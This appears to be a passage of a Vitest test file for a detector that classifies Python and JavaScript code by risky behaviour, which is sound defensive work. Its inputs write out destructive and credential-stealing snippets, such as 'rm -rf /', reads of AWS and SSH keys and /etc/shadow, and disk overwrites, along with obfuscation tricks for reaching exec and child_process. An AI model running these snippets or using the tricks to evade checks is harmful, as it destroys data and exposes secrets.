import { describe, expect, it } from 'vitest';
import { type CodeLanguage, classifyCode, classifyCodeEveryWay, codeLanguage } from './classify-code.ts';

function classes(language: CodeLanguage, code: string) {
  const result = classifyCode(language, code);
  if (!result.ok) throw new Error(result.error);
  return [...new Set(result.findings.map((f) => f.class))].sort();
}

/** The command of each process-spawning finding, null where it is not written out. */
function commands(language: CodeLanguage, code: string) {
  const result = classifyCode(language, code);
  if (!result.ok) throw new Error(result.error);
  return result.findings.filter((f) => f.class === 'processSpawn').map((f) => f.command ?? null);
}

describe('classifyCode: JavaScript and TypeScript (acorn)', () => {
  it.each([
    ["require('child_process').execSync('id')", ['processSpawn']],
    ["import { spawn } from 'node:child_process'; spawn('ls')", ['processSpawn']],
    ["const fs = require('fs'); fs.rmSync('/data', { recursive: true })", ['fileDelete']],
    ["import { unlink } from 'node:fs/promises'; await unlink('a')", ['fileDelete']],
    ["await fetch('https://x.io')", ['network']],
    ["import http from 'http'; http.get('http://x')", ['network']],
    ['new WebSocket("wss://x")', ['network']],
    ['eval(input)', ['dynamicEval']],
    ['const f = new Function("return 1")', ['dynamicEval']],
    ['await import(name)', ['dynamicEval']],
    ['console.log(process.env.API_KEY)', ['credentials']],
    ["readFileSync('/home/u/.ssh/id_rsa')", ['credentials']],
    ['const list = [1, 2]; list.map((x) => x * 2)', []],
    ['/a+/.exec("aaa"); const s = "child_process"', []],
    ['// require("child_process")\nconst x = 1', []],
  ])('%s', (code, expected) => {
    expect(classes('javascript', code)).toEqual(expected);
  });

  it('reads TypeScript after stripping its types', () => {
    expect(
      classes(
        'typescript',
        "import { execSync } from 'child_process';\nconst out: string = execSync('id').toString();",
      ),
    ).toEqual(['processSpawn']);
    expect(classes('typescript', 'enum Color { Red }\nconst c: Color = Color.Red;')).toEqual([]);
  });

  it('reports code that does not parse', () => {
    expect(classifyCode('javascript', 'function (')).toMatchObject({
      ok: false,
      error: expect.stringContaining('could not be parsed'),
    });
  });
});

describe('classifyCode: Python (tokenizer)', () => {
  it.each([
    ['import subprocess\nsubprocess.run(["ls"])', ['processSpawn']],
    ['import os\nos.system("id")', ['processSpawn']],
    ['from os import system as s\ns("id")', ['processSpawn']],
    ['import subprocess as sp\nsp.Popen("x")', ['processSpawn']],
    ['import shutil\nshutil.rmtree("/data")', ['fileDelete']],
    ['from pathlib import Path\nPath("a").unlink()', ['fileDelete']],
    ['import requests\nrequests.get("https://x")', ['network']],
    ['from urllib.request import urlopen', ['network']],
    ['eval(user_input)', ['dynamicEval']],
    ['__import__("os")', ['dynamicEval']],
    ['import os\ntoken = os.environ["TOKEN"]', ['credentials']],
    ['open("/home/u/.aws/credentials").read()', ['credentials']],
    ['items = [1, 2]\nitems.remove(1)\nprint(sum(items))', []],
    ['# os.system("rm -rf /")\nprint("eval(x) is dangerous")', []],
    ['"""\nimport subprocess\n"""\nx = 1', []],
  ])('%s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it('reports an unterminated string', () => {
    expect(classifyCode('python', 'x = "abc')).toMatchObject({ ok: false });
  });
});

describe('classifyCode: Python commands written out', () => {
  const spawned = (code: string) => commands('python', code);

  it.each([
    ["import os\nos.system('ls -l')", ['ls -l']],
    [
      "import subprocess\nsubprocess.run(['git', 'commit', '-m', \"it's done\"], check=True)",
      ["git commit -m 'it'\\''s done'"],
    ],
    ["import subprocess as sp\nsp.check_output(('uname', '-a'), text=True, stderr=sp.STDOUT)", ['uname -a']],
    ["from subprocess import Popen, PIPE\nPopen('make all', shell=True, stdout=PIPE)", ['make all']],
    ["import subprocess\nsubprocess.call(['echo $HOME'], shell=True)", ['echo $HOME']],
    ["import os\nos.execvp('ls', ['ls', '-l', '/tmp'])", ['ls -l /tmp']],
    ["import pty\npty.spawn('/bin/sh')", ['/bin/sh']],
    ["import asyncio\nasyncio.create_subprocess_exec('ls', '-l')", ['ls -l']],
    ["import os\nos.system('ls'); os.system('pwd')", ['ls', 'pwd']],
  ])('gives the command line of a call written in literals: %s', (code, expected) => {
    expect(spawned(code)).toEqual(expected);
  });

  it.each([
    ['import os\nos.system(cmd)', [null]],
    ["import os\nos.system('rm -rf ' + path)", [null]],
    ["import os\nos.system(f'rm -rf {path}')", [null]],
    ["import os\nos.system('rm -rf ' '/')", [null]],
    ["import subprocess\nsubprocess.run(['ls', path])", [null]],
    ["import subprocess\nsubprocess.run(['ls'], cwd='/srv')", [null]],
    ["import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': 'x.so'})", [null]],
    ["import subprocess\nsubprocess.run('ls', 1, '/bin/rm')", [null]],
    ["import subprocess\nsubprocess.run(['echo $0', 'x'], shell=True)", [null]],
    ['import subprocess\nsubprocess.run(*argv)', [null]],
    ['import subprocess', [null]],
    ['import subprocess\nrun = subprocess.run\nlist(map(run, cmds))', [null]],
  ])('gives none where the command is built, hidden or changed: %s', (code, expected) => {
    expect(spawned(code)).toEqual(expected);
  });
});

describe('classifyCode: JavaScript commands written out', () => {
  const spawned = (code: string) => commands('javascript', code);

  it.each([
    ["require('child_process').execSync('ls -l')", ['ls -l']],
    ["const cp = require('node:child_process'); cp.exec('make', (error, out) => console.log(out))", ['make']],
    [
      "import { spawnSync } from 'child_process'; spawnSync('git', ['commit', '-m', 'a b'], { stdio: 'inherit' })",
      ["git commit -m 'a b'"],
    ],
    ["const { spawn } = require('child_process'); spawn('echo', ['$HOME'], { shell: true })", ['echo $HOME']],
    ['import * as cp from "child_process"; cp.execFileSync(`uname`, [`-a`])', ['uname -a']],
  ])('gives the command line of a child_process call written in literals: %s', (code, expected) => {
    expect(spawned(code)).toEqual(expected);
  });

  it.each([
    ["require('child_process').execSync(command)", [null]],
    ["require('child_process').execSync('rm -rf ' + dir)", [null]],
    ['require("child_process").execSync(`rm -rf $' + '{dir}`)', [null]],
    ["require('child_process').spawn('ls', [dir])", [null]],
    ["require('child_process').execSync('ls', { cwd: dir })", [null]],
    ["require('child_process').spawn('ls', { env: { LD_PRELOAD: 'x.so' } })", [null]],
    ["require('child_process').spawn('ls', { shell: '/bin/zsh' })", [null]],
    ["require('child_process').fork('worker.js')", [null]],
    ["const cp = require('child_process'); cp.execSync('ls'); run(cp)", ['ls', null]],
    ["require('child_process')", [null]],
  ])('gives none where the command is built, hidden or changed: %s', (code, expected) => {
    expect(spawned(code)).toEqual(expected);
  });
});

describe('classifyCode: Python read as CPython reads it', () => {
  it.each([
    // A backslash keeps the next quote inside a raw string: r'\'' is complete.
    ["x = r'\\'' ; import subprocess; subprocess.run('id', shell=True) #'", ['processSpawn']],
    ["x = rb'\\'' + Rb'a' + fR'{1}' + BR'\\\"'\nimport subprocess", ['processSpawn']],
    ["x = '''a ' \"\"\" b'''\nimport os\nos.system('id')", ['processSpawn']],
    ["x = 'a\\\nimport subprocess'", []],
  ])('%s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    ["f\"{__import__('os').system('id')}\"", ['dynamicEval', 'processSpawn']],
    ['import os\nf"{os.system(\'id\')}"', ['processSpawn']],
    ['import os\nf"{x!r:>{os.system(\'id\')}}"', ['processSpawn']],
    ['import os\nrf"""\n{os.system("id")}"""', ['processSpawn']],
    ['import os\nf"{{os.system(\'id\')}}"', []],
    ['name = "x"\nprint(f"{name!r:>10} {\'a\'}")', []],
  ])('reads f-string replacement fields as code: %s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    ["ｅｘｅｃ('print(1)')", ['dynamicEval']],
    ["import os\nｏｓ.system('id')", ['processSpawn']],
    ["ºs.system('id')", ['processSpawn']],
  ])('normalises names as NFKC: %s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    ['x = "abc', 'unterminated string'],
    ["x = r'\\'", 'unterminated string'],
    ['x = f"{a"', 'unterminated'],
    ['x = f"a}"', "single '}'"],
    ['x\u00a0= 1', 'invalid character'],
  ])('reports what CPython rejects: %s', (code, error) => {
    expect(classifyCode('python', code)).toEqual({ ok: false, error: expect.stringContaining(error) });
  });
});

describe('classifyCode: Python reached another way', () => {
  it.each([
    ["from subprocess import *\nrun(['id'])", ['processSpawn']],
    ["from os import *\nsystem('id')", ['processSpawn']],
    ["import posix\nposix.system('id')", ['processSpawn']],
    ["import shutil\nshutil.os.system('id')", ['processSpawn']],
    ["import sys\nsys.modules['os'].system('id')", ['processSpawn']],
    ["import os\ngetattr(os, 'sys' + 'tem')('id')", ['dynamicEval']],
    ["import os\ns = os\ns.system('id')", ['processSpawn']],
    ["import ctypes\nctypes.CDLL(None).system(b'id')", ['processSpawn']],
    ["import builtins\nbuiltins.exec('1')", ['dynamicEval']],
    ["__builtins__.exec('1')", ['dynamicEval']],
    ["e = exec\ne('1')", ['dynamicEval']],
    ["getattr(__builtins__, 'ex' + 'ec')('1')", ['dynamicEval']],
    ["import importlib\nimportlib.import_module('subprocess').run('id')", ['dynamicEval', 'processSpawn']],
    ['import asyncio\nasyncio.open_connection("x", 1)', ['network']],
    ['import asyncio\nasyncio.create_subprocess_shell("id")', ['processSpawn']],
    ['import xmlrpc.client', ['network']],
    ['import imaplib', ['network']],
    ['import smtplib', ['network']],
    ['import webbrowser\nwebbrowser.open("https://x")', ['network']],
    ['import sh\nsh.ls()', ['processSpawn']],
  ])('%s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    ["import os\nvars(os)['sys' + 'tem']('rm -rf /')", ['dynamicEval']],
    ["import os\nos.__dict__['sys' + 'tem']('rm -rf /')", ['dynamicEval']],
    ["import sys\nsys.modules['o' + 's'].system('rm -rf /')", ['dynamicEval']],
    ["import sys\nm = sys.modules\nm[name].system('rm -rf /')", ['dynamicEval']],
    ["vars(__builtins__)['ev' + 'al']('1')", ['dynamicEval']],
    ["globals()['__builtins__'].exec('1')", ['dynamicEval']],
    ["globals()[name]('1')", ['dynamicEval']],
    ["locals().get(name)('1')", ['dynamicEval']],
    ["import os\nvars(os)['system']('id')", ['processSpawn']],
    ["import os\ngetattr(vars(os), 'get')('system')('id')", ['dynamicEval']],
    ["import os\nvars(os).get('sys' + 'tem')('id')", ['dynamicEval']],
    ["import os\nd = os.__dict__\nd.get('sys' + 'tem')('id')", ['dynamicEval']],
    ["import os\nvars(os).get('system')('id')", ['processSpawn']],
    ["import sys\nsys.modules.get('os').system('id')", ['processSpawn']],
    ["import sys\nsys.modules['shutil'].rmtree('/')", ['fileDelete']],
    ["import os\ngetattr(os, 'system', None)('id')", ['processSpawn']],
    ['import sys\ngetattr(sys.modules[__name__], name)()', ['dynamicEval']],
    ["import sys\nsetattr(sys.modules[__name__], 'x', 1)", []],
  ])('follows namespaces, failing closed on computed names: %s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    ["import os\nl = [os]; l[0].system('rm -rf /')", ['dynamicEval']],
    ['import os\nrun(module=os)', ['dynamicEval']],
    ["import os\n(m := os).system('id')", ['dynamicEval']],
    ["m = __import__('os')\nrun(m)", ['dynamicEval']],
    ["import shutil\nlist(map(shutil.rmtree, ['/']))", ['fileDelete']],
    ['from os import remove\ncleanups = [remove]', ['fileDelete']],
    ["from importlib import import_module as load\nloaders = {'x': load}", ['dynamicEval']],
    ['breakpoint()', ['dynamicEval']],
    ["import pdb\npdb.run('import os')", ['dynamicEval']],
    ["import bdb\nbdb.Bdb().run('import os')", ['dynamicEval']],
    ["import code\ncode.InteractiveConsole().push('import os')", ['dynamicEval']],
    ['import code\ncode.interact()', ['dynamicEval']],
    ["from code import InteractiveInterpreter as I\nI().runsource('import os')", ['dynamicEval']],
  ])('counts modules and functions passed around, and interpreters: %s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    ["import os\ngetattr(os, 'environ')", ['credentials']],
    ['import posix\nposix.environ', ['credentials']],
    ["import sys\nsys.modules['os'].environ", ['credentials']],
    ['import os\nos.getenv("API_KEY")', ['credentials']],
    ['from os import environ\nenviron["TOKEN"]', ['credentials']],
    ['import os\nos.path.join(home, ".aws", "credentials")', ['credentials']],
    ['from pathlib import Path\n(Path.home() / ".aws" / "credentials").read_text()', ['credentials']],
    ["open('/root/\\x2eaws/credentials')", ['credentials']],
    ["open('/root/' '.a' 'ws/credentials')", ['credentials']],
    ['open(f\'{home}/.a{""}ws/credentials\')', ['credentials']],
    // A path built from a variable given one string.
    [
      "import os\nbase = os.path.expanduser('~/.aws')\nopen(os.path.join(base, 'credentials'))",
      ['credentials'],
    ],
    [
      "from pathlib import Path\naws = Path.home() / '.aws'\n(aws / 'credentials').read_text()",
      ['credentials'],
    ],
    // Read as the kernel reads the path.
    ["open('/etc/../etc/shadow').read()", ['credentials']],
    ["open('../../../../etc/shadow').read()", ['credentials']],
    ["open('/etc/' + '../etc/shadow').read()", ['credentials']],
    ["open('../data/./x.csv').read()", []],
    // A directory that holds credentials, taken whole.
    ["import shutil, os\nshutil.copytree(os.path.expanduser('~/.aws'), '/tmp/x')", ['credentials']],
    ["import shutil\nshutil.make_archive('/tmp/k', 'zip', '/root/.gnupg')", ['credentials']],
    ["import os\nos.listdir('/run/secrets')", ['credentials']],
    // A directory whose name only starts like one.
    ["import shutil\nshutil.copytree('/srv/.awsome', '/tmp/x')", []],
    ["import os\nos.listdir('/home/u/.kubernetes-notes')", []],
    ['import os\nos.environ["HOME"]', []],
    ['import os\nos.getenv("NODE_ENV", "dev")', []],
    // Messages that name a file tell a person about it.
    ['print("Add your public key to ~/.ssh/authorized_keys")', []],
    ['print("Set AWS creds in ~/.aws/credentials before running")', []],
  ])('finds credential reads: %s', (code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    "commands = ['build', 'test']\nfor c in commands: print(c)",
    'sh = 2\nprint(sh * 2)',
    'environ = {"a": 1}\nprint(environ)',
    'def exec(x): return x\nrun(exec=1)',
    'print(1 + 1)',
    "import json, sys; print(json.load(sys.stdin)['a'])",
    "x = {'a': 1}; print(x['a'])",
    "d = vars(args); print(d['name'])",
    'print(vars(args)[name], self.__dict__[name])',
    "import os; print(os.path.join('a', 'b'))",
    "import os\nif hasattr(os, 'fork'): print(dir(os))",
    "import sys\nif 'numpy' in sys.modules: print(sys.version, file=sys.stderr)",
    'import os\ns = os\nprint(s.getcwd())',
    "print('{x}'.format(**locals()))",
    "if args.os == 'linux': print(self.sys)",
    'pdb = load()\npdb.run(x)',
    'from os import remove',
    "from urllib import parse\nprint(parse.urlencode({'q': 'x'}))",
  ])('leaves ordinary names alone: %s', (code) => {
    expect(classes('python', code)).toEqual([]);
  });
});

describe('classifyCode: JavaScript read as runtimes read it', () => {
  it('reads CommonJS scripts, where await is a name, as well as modules', () => {
    const code =
      "globalThis.await = 1, globalThis.g = 1;\nawait /2; require('child_process').execSync('id'); 1 /g";
    expect(classes('javascript', code)).toEqual(['processSpawn']);
    expect(classes('javascript', 'const await = 1; await /2/ 1')).toEqual([]);
    expect(classes('javascript', "import fs from 'fs'\nawait fs.promises.rm('a')")).toEqual(['fileDelete']);
  });

  it.each([
    ["process.getBuiltinModule('child_process').execSync('id')", ['processSpawn']],
    ["process.getBuiltinModule('node:fs').rmSync('/x')", ['fileDelete']],
    ["process.getBuiltinModule('net').connect(80)", ['network']],
    ["process.mainModule.require('child_process')", ['processSpawn']],
    ["module.require('child_process')", ['processSpawn']],
    ["require.main.require('child_process')", ['processSpawn']],
    ["module.constructor._load('child_process')", ['processSpawn']],
    ["require('module')._load('child_process')", ['processSpawn']],
    ["require.call(null, 'child_process')", ['processSpawn']],
    ["require.apply(null, ['child_process'])", ['processSpawn']],
    ["const r = require; r('child_process')", ['processSpawn']],
    [
      "import { createRequire } from 'node:module';\ncreateRequire(import.meta.url)('child_process')",
      ['processSpawn'],
    ],
    ["require('ch' + 'ild_process')", ['processSpawn']],
    ['require(name)', ['dynamicEval']],
    ["let r; r ||= require; r('child_process')", ['processSpawn']],
    ["[require][0]('child_process').execSync('rm -rf /')", ['dynamicEval']],
    ["const m = { r: require }; m.r('child_process').execSync('id')", ['dynamicEval']],
    ["const m = {}; m.r = require; m.r('child_process')", ['dynamicEval']],
    ["const get = () => require; get()('child_process')", ['dynamicEval']],
    ["function get() { return module } get().require('child_process')", ['dynamicEval']],
    ['run(process)', ['dynamicEval']],
    ['run([globalThis])', ['dynamicEval']],
    ["with (process) { binding('spawn_sync') }", ['dynamicEval']],
  ])('follows require however it is reached: %s', (code, expected) => {
    expect(classes('javascript', code)).toEqual(expected);
  });

  it.each([
    "globalThis.eval('1')",
    "globalThis['ev' + 'al']('1')",
    "window[['ev', 'al'].join('')]('1')",
    "(0, eval)('1')",
    "const e = eval; e('1')",
    "Reflect.apply(eval, null, ['1'])",
    'Function`return process`()',
    "Function.prototype.constructor('return 1')()",
    "[].constructor.constructor('return 1')()",
    "[].map.constructor('return 1')()",
    "Function.apply(null, ['return 1'])",
    "Reflect.construct(Function, ['return 1'])",
    "Object.getPrototypeOf(async function () {}).constructor('return 1')",
    "(() => {}).constructor('return 1')()",
    "function f() {}\nf.constructor('return 1')()",
    "setTimeout('alert(1)', 0)",
    "Reflect.get(globalThis, 'ev' + 'al')('1')",
    'Reflect.get(process, name)',
  ])('finds eval and the Function constructor reached indirectly: %s', (code) => {
    expect(classes('javascript', code)).toEqual(['dynamicEval']);
  });

  it.each([
    'process[`env`]',
    'globalThis.process.env',
    'const { env } = process; env.TOKEN',
    "import { env } from 'node:process'",
    "require('process').env",
    'Deno.env.toObject()',
    'Bun.env.X',
    'process.env[name]',
    'const { ...all } = process.env',
    'JSON.stringify(process.env)',
    "Reflect.get(process, 'en' + 'v')",
    "Reflect.get(process, 'env').TOKEN",
    "path.join(os.homedir(), '.aws', 'credentials')",
    "readFileSync('/.a' + 'ws/credentials')",
    "require('fs').cpSync(require('os').homedir() + '/.aws', '/tmp/x', { recursive: true })",
    "require('fs').readdirSync('/root/.azure')",
    "require('fs').readdirSync(path.join(os.homedir(), '.docker'))",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the code under test holds a template literal
    'readFileSync(`${home}/.a${""}ws/credentials`)',
    // A join given a name that holds another join.
    "const path = require('path'); const d = path.join(os.homedir(), '.aws'); readFileSync(path.join(d, 'credentials'))",
  ])('finds credential reads: %s', (code) => {
    expect(classes('javascript', code)).toEqual(['credentials']);
  });

  it.each([
    ["const { rmSync: nuke } = require('fs'); nuke('/x')", ['fileDelete']],
    ["require('fs')[`rmSync`]('/x')", ['fileDelete']],
    ["import { rimraf } from 'rimraf'; await rimraf('/x')", ['fileDelete']],
    ["import { deleteAsync } from 'del'; await deleteAsync(['/x'])", ['fileDelete']],
    ["const fs = require('fs'); fs[op]('/x')", ['fileDelete']],
    ["global.fetch('https://x')", ['network']],
    ["self.fetch('https://x')", ['network']],
    ['const f = fetch; f(url)', ['network']],
    ["navigator.sendBeacon('https://x', data)", ['network']],
    ['Deno.connect({ port: 80 })', ['network']],
    ['Bun.connect({ hostname: "x", port: 80 })', ['network']],
    ["Deno.run({ cmd: ['id'] })", ['processSpawn']],
  ])('finds deletion, network and spawning aliases: %s', (code, expected) => {
    expect(classes('javascript', code)).toEqual(expected);
  });

  it.each([
    "if (process.env.NODE_ENV === 'production') console.log(1)",
    'const { NODE_ENV, HOME } = process.env',
    "Deno.env.get('HOME')",
    "const fs = require('fs'); const list = new Set([1]); list.delete(1); items.remove(1)",
    "if (typeof fetch === 'function') console.log('ok')",
    'function get(fetch, eval2) { return eval2 }',
    'const d = new Date(); console.log(d.constructor === Date, x.constructor.name)',
    "const socket = io(); socket.emit('x')",
    "console.log('Copy your public key from ~/.ssh/id_rsa.pub')",
    "const path = require('path'); const src = path.join(__dirname, 'src'); console.log(path.join(src, 'index.js'))",
    "console.log(require('./package.json').version)",
    "const path = require('path')",
    '[1, 2].map((x) => x * 2)',
    'JSON.parse(s)',
    'if (require.main === module) main()',
    "const req = typeof require === 'function' ? require : undefined",
    'var self = this; done(self)',
    'function add(parent, child) { attach(parent, [child]) }',
    'console.log(process)',
  ])('leaves ordinary code alone: %s', (code) => {
    expect(classes('javascript', code)).toEqual([]);
  });
});

describe('classifyCode: JavaScript of unusual shape', () => {
  it('still reads the module way code only a module reads: `<!--`', () => {
    // A script reads the rest of the line as an HTML-like comment; a module reads `a < !--b, …`.
    expect(classes('javascript', "x = a <!--b, require('child_process')")).toEqual(['processSpawn']);
    expect(classes('javascript', "x = a; // <!--b, require('child_process')")).toEqual([]);
  });

  it('follows member chains of ordinary length link by link', () => {
    const aliases = 'globalThis.'.repeat(200);
    expect(classes('javascript', `${aliases}eval('1')`)).toEqual(['dynamicEval']);
    expect(classes('javascript', `const a = require('fs');\na${'.promises'.repeat(1)}.rm('x')`)).toEqual([
      'fileDelete',
    ]);
    expect(classes('javascript', `x${'.y'.repeat(60)}`)).toEqual([]);
  });

  it('counts a member chain too long to follow as dynamic, whatever starts it', () => {
    expect(classes('javascript', `x${'.y'.repeat(5000)}`)).toEqual(['dynamicEval']);
    const alternatives = 'abcdefghijklmnop'.split('').join('||');
    expect(classes('javascript', `(${alternatives})${'.y'.repeat(2000)}`)).toEqual(['dynamicEval']);
    expect(classes('javascript', `const e = process.env${'.y'.repeat(100)}; e.z`)).toContain('dynamicEval');
  });

  it('fails closed, without overflowing, on names bound through each other too deeply', () => {
    const lines = Array.from({ length: 3000 }, (_, i) => `a${i} = a${i + 1}.x;`);
    const result = classifyCode('javascript', `${lines.join('\n')}\na3000 = 1`);
    expect(result.ok).toBe(false);
    expect(classes('javascript', lines.slice(0, 200).join('\n'))).toEqual([]);
  });

  it('finds a credential path among many constant strings, and nothing where there is none', () => {
    const many = Array.from({ length: 5000 }, () => "'ab'").join(', ');
    expect(classes('javascript', `x = [${many}]`)).toEqual([]);
    expect(classes('javascript', `path.join(${many}, '.ssh', 'id_rsa')`)).toEqual(['credentials']);
    expect(classes('python', `x = [${many}]`)).toEqual([]);
    expect(classes('python', `x = ${"'ab' ".repeat(5000)}'/.s' 'sh'`)).toEqual(['credentials']);
    expect(
      classes('javascript', `f(${many}, '/pr' + 'oc/' + '${'1'.repeat(300)}' + '/env' + 'iron')`),
    ).toEqual(['credentials']);
    expect(classes('javascript', `x = '/.e' + 'nv' + '.loc' + 'al'`)).toEqual(['credentials']);
    expect(classes('javascript', `x = '/.e' + 'nv.x'`)).toEqual(['credentials']);
    expect(classes('javascript', `x = '/.e' + 'nvx'`)).toEqual([]);
    expect(classes('javascript', `x = 'a.e' + 'nv'`)).toEqual([]);
  });
});

describe('classifyCode: deeply nested code', () => {
  const getattrs = (root: string, attribute: string, depth: number) =>
    `${'getattr('.repeat(depth)}${root}${`, ${attribute})`.repeat(depth)}`;

  it.each([
    // Each nested getattr is read once, however deep; past what is followed, it counts as dynamic.
    ['computed getattr, 4,000 deep', getattrs('x', 'a', 4000), ['dynamicEval']],
    ['computed getattr on os, 5,000 deep', `import os\n${getattrs('os', 'a', 5000)}`, ['dynamicEval']],
    ['literal getattr, 9,000 deep', getattrs('x', "'a'", 9000), ['dynamicEval']],
    ['literal getattr, 90 deep', getattrs('x', "'a'", 90), []],
    ['vars, 8,000 deep', `import os\n${'vars('.repeat(8000)}os${')'.repeat(8000)}`, ['dynamicEval']],
    ['calls, 30,000 deep', `${'f('.repeat(30000)}x${')'.repeat(30000)}`, []],
    ['parentheses, 40,000 deep', `${'('.repeat(40000)}x${')'.repeat(40000)}`, []],
    ['subscripts, 20,000 long', `x${"['a']".repeat(20000)}`, []],
    ['a member chain, 40,000 long', `x${'.a'.repeat(40000)}`, []],
    [
      '__import__ with arguments, 6,000 deep',
      `${'__import__("a", '.repeat(6000)}${')'.repeat(6000)}`,
      ['dynamicEval'],
    ],
    ['sys.modules.get, 8,000 long', `import sys\nsys${'.modules.get'.repeat(8000)}`, ['dynamicEval']],
    [
      'star imports from 3,000 modules',
      `${Array.from({ length: 3000 }, (_, i) => `from m${i} import *`).join('\n')}\n${'x\n'.repeat(3000)}`,
      ['dynamicEval'],
    ],
  ])('reads Python: %s', (_, code, expected) => {
    expect(classes('python', code)).toEqual(expected);
  });

  it.each([
    ['f-strings, 20,000 deep', `${'f"{'.repeat(20000)}x${'}"'.repeat(20000)}`],
    ['format specs, 20,000 deep', `f"{x:${'{x:'.repeat(20000)}${'}'.repeat(20001)}"`],
  ])('reports Python nested past what CPython reads as unreadable: %s', (_, code) => {
    expect(classifyCode('python', code)).toMatchObject({ ok: false });
  });

  it.each([
    // What a name holds is read once for all the nodes that read it, however often it is bound.
    ['a name bound and read 6,000 times', `${'x = a;'.repeat(6000)}${'f(x);'.repeat(6000)}`, []],
    [
      'a name bound 6,000 times, once to require',
      `${'x = a;'.repeat(6000)}x = require;\n${"x('child_process');".repeat(3000)}`,
      ['processSpawn'],
    ],
    [
      'a constant bound and read 5,000 times',
      `${"k = 'child_' + 'process';".repeat(5000)}${'require(k);'.repeat(3000)}`,
      ['processSpawn'],
    ],
    [
      'constants bound through each other',
      `${'k = j;'.repeat(5000)}${"j = 'a';".repeat(5000)}${'x[k];'.repeat(3000)}`,
      [],
    ],
    ['self bound and passed 5,000 times', `${'self = a;'.repeat(5000)}${'f(self);'.repeat(5000)}`, []],
  ])('reads JavaScript: %s', (_, code, expected) => {
    expect(classes('javascript', code)).toEqual(expected);
  });

  it.each([
    ['bind, 8,000 deep', `require${'.bind(null)'.repeat(8000)}`],
    ['method calls, 20,000 long', `x${'.a()'.repeat(20000)}`],
    ['calls, 30,000 deep', `${'f('.repeat(30000)}x${')'.repeat(30000)}`],
    ['arrays, 40,000 deep', `${'['.repeat(40000)}x${']'.repeat(40000)}`],
  ])('reports JavaScript nested past the stack as unreadable, without throwing: %s', (_, code) => {
    expect(classifyCode('javascript', code)).toMatchObject({ ok: false });
  });
});

describe('classifyCodeEveryWay', () => {
  const everyWay = (language: CodeLanguage, code: string) => {
    const result = classifyCodeEveryWay(language, code);
    if (!result.ok) throw new Error(result.error);
    return result.findings;
  };

  it('also reads code named as Python as JavaScript', () => {
    expect(everyWay('python', "require('child_process').execSync('id')")).toEqual([
      { class: 'processSpawn', reason: 'imports child_process (read as JavaScript)', command: 'id' },
    ]);
  });

  it('also reads code named as JavaScript as Python when it could be Python', () => {
    expect(everyWay('javascript', "__builtins__\nos.system('id')")).toEqual([
      { class: 'processSpawn', reason: 'uses os.system (read as Python)', command: 'id' },
    ]);
    expect(everyWay('javascript', "const socket = connect(); socket.send('x')")).toEqual([]);
    expect(everyWay('typescript', 'const requests: string[] = []; requests.push("a")')).toEqual([]);
  });

  it('still needs the named language to read', () => {
    expect(classifyCodeEveryWay('javascript', 'import os\nos.system("id")')).toMatchObject({ ok: false });
  });
});

describe('codeLanguage', () => {
  it('maps common names and rejects the rest', () => {
    expect(['js', 'Node', 'ts', 'python3', 'ruby', 'constructor'].map(codeLanguage)).toEqual([
      'javascript',
      'javascript',
      'typescript',
      'python',
      undefined,
      undefined,
    ]);
  });
});

describe('the path a deletion names', () => {
  it('is given when the code writes it as a string literal', () => {
    expect(classifyCode('python', "import shutil\nshutil.rmtree('build')")).toEqual({
      ok: true,
      findings: [{ class: 'fileDelete', reason: 'calls shutil.rmtree', target: 'build' }],
    });
    expect(classifyCode('javascript', "require('fs').rmSync(`dist`, { recursive: true })")).toEqual({
      ok: true,
      findings: [{ class: 'fileDelete', reason: 'calls fs.rmSync', target: 'dist' }],
    });
  });

  it('is left out when the path is computed, and each named path is kept', () => {
    expect(classifyCode('javascript', "require('fs').rmSync(process.argv[2])")).toMatchObject({
      findings: [{ class: 'fileDelete', reason: 'calls fs.rmSync' }],
    });
    const both = classifyCode('python', "import os\nos.remove('a.txt')\nos.remove('/etc/passwd')");
    expect(both.ok && both.findings.map((f) => f.target)).toEqual(['a.txt', '/etc/passwd']);
    const js = classifyCode(
      'javascript',
      "const fs = require('fs'); const root = '/'; fs.rmSync('build'); fs.rmSync(root)",
    );
    expect(js.ok && js.findings.map((f) => f.target)).toEqual(['build', '/']);
  });
});

describe('code that writes over a file of the system or a disk', () => {
  const deletes = (language: CodeLanguage, code: string) => {
    const result = classifyCode(language, code);
    return result.ok ? result.findings.filter((f) => f.class === 'fileDelete').map((f) => f.target) : result;
  };

  it.each([
    ['python', "open('/etc/passwd', 'w')", ['/etc/passwd']],
    ['python', "open('/etc/hosts', mode='a').write('x')", ['/etc/hosts']],
    ['python', "import os\nos.truncate('/etc/passwd', 0)", ['/etc/passwd']],
    ['python', "import shutil\nshutil.copy('/dev/zero', '/dev/sda')", ['/dev/sda']],
    ['python', "import os\nfd = os.open('/dev/sda', os.O_WRONLY)", ['/dev/sda']],
    ['javascript', "require('fs').writeFileSync('/etc/passwd', '')", ['/etc/passwd']],
    ['javascript', "require('fs').openSync('/dev/../dev/sda', 'w')", ['/dev/../dev/sda']],
    ['javascript', "require('fs').copyFileSync('x', '/usr/bin/ls')", ['/usr/bin/ls']],
    ['javascript', "Deno.writeTextFileSync('/etc/hosts', '')", ['/etc/hosts']],
  ] as [CodeLanguage, string, string[]][])('%s: %s', (language, code, expected) => {
    expect(deletes(language, code)).toEqual(expected);
  });

  it.each([
    ['python', "print(open('/etc/hosts').read())"],
    ['python', "open('notes.txt', 'w').write('x')"],
    ['python', "import os\nfd = os.open('/etc/hosts', os.O_RDONLY)"],
    ['javascript', "require('fs').writeFileSync('out.txt', '')"],
    ['javascript', "require('fs').readFileSync('/etc/hosts', 'utf8')"],
  ] as [CodeLanguage, string][])('leaves reads and writes of other files alone: %s: %s', (language, code) => {
    expect(deletes(language, code)).toEqual([]);
  });
});

describe('classifyCode: packages and methods as agents use them', () => {
  it.each([
    // A method called on a variable is known by its name.
    ["from pathlib import Path\np = Path('old.log')\np.unlink()", ['fileDelete']],
    [
